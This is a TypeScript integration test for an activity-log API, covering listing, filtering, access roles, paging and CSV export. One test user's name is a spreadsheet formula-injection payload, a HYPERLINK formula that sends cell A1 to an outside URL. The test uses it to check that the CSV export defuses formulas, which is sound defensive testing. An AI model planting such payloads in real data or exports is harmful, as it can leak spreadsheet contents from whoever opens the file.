import { type ActivityAnswer, type ActivityEntryView, LIMITS, toCsv } from '@agency/contracts';
import { addDays, todayIn } from '@agency/domain';
import { startTestProduct, TEST_ADMIN, type TestProduct } from '@agency/scripts/testing/test-product';
import { contact } from '@agency/scripts/testing/test-requests';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

/** The activity log: the commands of a period, grouped from their events, read from the event store. */
describe('activity log (real PostgreSQL)', () => {
  let product: TestProduct;
  let admin: string;
  let auditor: string;
  let tutor: string;
  let auditorId = '';
  let tutorId = '';
  const named = { family: '', erased: '', engagement: '' };
  /** A user whose name a spreadsheet would run as a formula. */
  const formulaName = '=HYPERLINK("https://example.com/?"&A1,"Open")';
  const today = todayIn('Europe/London', new Date());

  const fetchAs = (url: string, token: string) =>
    fetch(`${product.url}${url}`, { headers: { authorization: `Bearer ${token}` } });

  beforeAll(async () => {
    product = await startTestProduct();
    admin = await product.login(TEST_ADMIN.username, TEST_ADMIN.password);
    const api = product.api(admin);
    const made = await api.post('/api/tutors/contact', {
      contact: {
        firstName: 'Lou',
        lastName: 'Log',
        address: ['1 Ledger Lane'],
        postcode: 'OX1 1AA',
        email: 'lou.log@example.com',
        phone: [{ type: 'Mobile', number: '07700 900001' }],
      },
      tutor: { username: 'lou.log', invoicePrefix: 'LL', startDate: '2024-09-01' },
    });
    tutorId = made.tutor.id;
    const password = 'activity-Log-pass-42';
    auditorId = (await api.post('/api/users', { username: 'audie', password, role: 'auditor', name: 'Audie Log' })).user
      .id;
    auditor = await product.login('audie', password);
    await api.post('/api/users', { username: 'lou', password, role: 'tutor', tutorId, name: 'Lou Log' });
    tutor = await product.login('lou', password);
    await api.post('/api/users', { username: 'formula', password, role: 'admin', name: formulaName });
    const formula = product.api(await product.login('formula', password));
    await formula.post('/api/clients/contact', contact('Fay', 'Formula'));
    // More commands than a small page holds, one of them (new rates and subjects) of two events.
    for (const name of ['Ann', 'Bob', 'Cat', 'Dee']) {
      const made = await api.post('/api/clients/contact', contact(name, 'Paged'));
      if (name === 'Ann') named.erased = made.client.id;
    }
    const { client } = await api.post('/api/clients/contact', contact('Pat', 'Paged'));
    named.family = client.id;
    const { child } = await api.post(`/api/clients/child/${client.id}`, {
      firstName: 'Kid',
      lastName: 'Paged',
      dob: '2014-01-01',
    });
    const terms = { tutorId, studentId: child.id, commissionPct: 20, partnerPct: 0 };
    const { engagement } = await api.post('/api/tutors/engagement', {
      ...terms,
      rate: 30,
      startDate: '2024-09-01',
      subjects: ['Maths'],
    });
    named.engagement = engagement.id;
    await api.post('/api/tutors/engagement', {
      ...terms,
      id: engagement.id,
      rate: 35,
      startDate: '2024-10-01',
      subjects: ['Maths', 'English'],
    });
  });

  /** Every page of today's log (`limit` commands a page), each asked for with the `nextCursor` of the one before. */
  const allPages = async (limit: number) => {
    const pages: ActivityAnswer[] = [];
    let cursor: string | null = null;
    do {
      const page: ActivityAnswer = await product
        .api(auditor)
        .get(`/api/activity?from=${today}&to=${today}&limit=${limit}${cursor ? `&cursor=${cursor}` : ''}`);
      pages.push(page);
      cursor = page.nextCursor;
    } while (cursor);
    return pages;
  };
  afterAll(() => product?.dispose());

  it("lists the period's commands: who, when, what in words, on which entity", async () => {
    const answer = await product.api(auditor).get(`/api/activity?from=${today}&to=${today}`);
    const added = answer.commands.find((entry: { streams: string[] }) => entry.streams.includes(`tutor-${tutorId}`));
    expect(added).toMatchObject({
      who: { name: 'Administrator', role: 'admin' },
      streams: [`tutor-${tutorId}`],
      commandId: expect.any(String),
    });
    expect(added.when).toMatch(new RegExp(`^${today} \\d{2}:\\d{2}:\\d{2}$`));
    expect(added.what.join(' ')).toMatch(/Lou|tutor/i);
    const ids = answer.commands.map((entry: { commandId: string }) => entry.commandId);
    expect(new Set(ids).size).toBe(ids.length);
    expect(answer.users.map((user: { name: string }) => user.name)).toEqual(
      expect.arrayContaining(['Administrator', 'Audie Log', 'Lou Log']),
    );
  });

  it('keeps to the period and to one user when asked', async () => {
    const yesterday = new Date(`${today}T12:00:00Z`);
    yesterday.setUTCDate(yesterday.getUTCDate() - 1);
    const before = yesterday.toISOString().slice(0, 10);
    expect((await product.api(admin).get(`/api/activity?from=${before}&to=${before}`)).commands).toEqual([]);
    const adminId = (await product.api(admin).get('/api/users/me')).user.id;
    const mine = await product.api(admin).get(`/api/activity?from=${today}&to=${today}&userId=${adminId}`);
    expect(mine.commands.length).toBeGreaterThan(0);
    expect(mine.commands.every((entry: { who: { userId: string } }) => entry.who.userId === adminId)).toBe(true);
    const none = await product.api(admin).get(`/api/activity?from=${today}&to=${today}&userId=${auditorId}`);
    expect(none.commands).toEqual([]);
  });

  it('answers CSV with a header row and every field quoted', async () => {
    const response = await fetchAs(`/api/activity?from=${today}&to=${today}&format=csv`, auditor);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    const lines = (await response.text()).trim().split('\r\n');
    expect(lines[0]).toBe('"When","Who","Role","Entity","What","Command"');
    const row = lines.find((line) => line.includes(`"tutor-${tutorId}"`));
    expect(row).toMatch(new RegExp(`^"${today} [0-9:]+","Administrator","admin","tutor-${tutorId}",".+","[^"]+"$`));
  });

  it('is for admins and auditors, and refuses a period that ends before it starts', async () => {
    expect((await fetchAs(`/api/activity?from=${today}&to=${today}`, tutor)).status).toBe(403);
    expect((await fetchAs(`/api/activity?from=${today}&to=2000-01-01`, admin)).status).toBe(400);
  });

  it(`answers a period of ${LIMITS.maxActivityDays} days at most, in JSON and in CSV`, async () => {
    const last = addDays(today, -(LIMITS.maxActivityDays - 1));
    expect((await fetchAs(`/api/activity?from=${last}&to=${today}`, auditor)).status).toBe(200);
    for (const format of ['json', 'csv']) {
      const response = await fetchAs(`/api/activity?from=${addDays(last, -1)}&to=${today}&format=${format}`, auditor);
      expect(response.status).toBe(400);
      const { error } = await response.json();
      expect(error).toMatchObject({ code: 'invalid_input', fields: { to: expect.stringMatching(/31 days at most/) } });
    }
    const wide = await fetchAs('/api/activity?from=1900-01-01&to=2100-12-31&format=csv', auditor);
    expect(wide.status).toBe(400);
  });

  it('pages through the period: every command once, in order, each whole, whatever the page size', async () => {
    const [whole] = await allPages(500);
    expect(whole?.nextCursor).toBeNull();
    const commands = whole?.commands ?? [];
    expect(commands.length).toBeGreaterThan(6);
    const ids = commands.map((entry) => entry.commandId);
    expect(new Set(ids).size).toBe(ids.length);
    const times = commands.map((entry) => entry.recordedAt);
    expect(times).toEqual([...times].sort());
    // The command of two events is one entry, whole on whichever page it falls.
    const changed = commands.find((entry) => entry.what.length > 1);
    expect(changed?.what.join(' ')).toMatch(/Rate.*Subjects|Subjects.*Rate/i);
    for (const limit of [1, 2, 3]) {
      const pages = await allPages(limit);
      expect(pages.length).toBeGreaterThanOrEqual(Math.ceil(commands.length / limit));
      expect(pages.flatMap((page) => page.commands)).toEqual(commands);
      // Each page keeps the answer's other fields.
      expect(pages.every((page) => page.from === today && page.users.length === whole?.users.length)).toBe(true);
    }
  });

  it('refuses a cursor it did not make, and a page size past the bound', async () => {
    for (const bad of ['nonsense', Buffer.from('["t","x","1"]').toString('base64url')]) {
      const response = await fetchAs(`/api/activity?from=${today}&to=${today}&cursor=${bad}`, auditor);
      expect(response.status).toBe(400);
      expect((await response.json()).error.fields).toHaveProperty('cursor');
    }
    expect((await fetchAs(`/api/activity?from=${today}&to=${today}&limit=501`, auditor)).status).toBe(400);
  });

  it('answers the CSV of the whole period as its pages hold it, a formula typed as a name defused', async () => {
    const pages = await allPages(2);
    const row = (entry: ActivityEntryView) => [
      entry.when,
      entry.who.name,
      entry.who.role,
      entry.streams.join(' '),
      entry.what.join('; '),
      entry.commandId,
    ];
    const response = await fetchAs(`/api/activity?from=${today}&to=${today}&format=csv`, auditor);
    expect(response.status).toBe(200);
    // Written as its pages are read: its length is not known before it is sent.
    expect(response.headers.get('content-length')).toBeNull();
    expect(response.headers.get('transfer-encoding')).toBe('chunked');
    const csv = await response.text();
    expect(csv).toBe(
      toCsv([['When', 'Who', 'Role', 'Entity', 'What', 'Command'], ...pages.flatMap((page) => page.commands.map(row))]),
    );
    const given = pages.flatMap((page) => page.commands).find((entry) => entry.who.name === formulaName);
    expect(given).toBeDefined();
    const line = csv.split('\r\n').find((text) => text.endsWith(`,"${given?.commandId}"`));
    expect(line).toContain(`,"'=HYPERLINK(""https://example.com/?""&A1,""Open"")","admin",`);
  });

  it('names what each command is about from the read models, with a link to its page; an erased family reads Erased', async () => {
    await product
      .api(admin)
      .post(`/api/clients/erase/${named.erased}`, { reason: 'Asked by the family', confirm: true });
    const commands = (await allPages(500)).flatMap((page) => page.commands);
    const about = (streamId: string) =>
      commands.flatMap((entry) => entry.subjects).find((subject) => subject.streamId === streamId);
    expect(about(`tutor-${tutorId}`)).toEqual({
      streamId: `tutor-${tutorId}`,
      kind: 'Tutor',
      name: 'Lou Log',
      path: `/tutor/${tutorId}`,
    });
    expect(about(`client-${named.family}`)).toMatchObject({
      kind: 'Family',
      name: 'Pat Paged',
      path: `/client/${named.family}`,
    });
    expect(about(`engagement-${named.engagement}`)).toMatchObject({
      kind: 'Engagement',
      name: 'Kid Paged with Lou Log',
      path: `/engagement/detail/${tutorId}/${named.engagement}`,
    });
    expect(about(`client-${named.erased}`)).toMatchObject({ kind: 'Family', name: 'Erased' });
    // Every entry names each of its streams, in their order.
    for (const entry of commands) expect(entry.subjects.map((subject) => subject.streamId)).toEqual(entry.streams);
    // The erased family's name is in no entry of the log any more.
    expect(JSON.stringify(commands)).not.toContain('Ann Paged');
  });
});
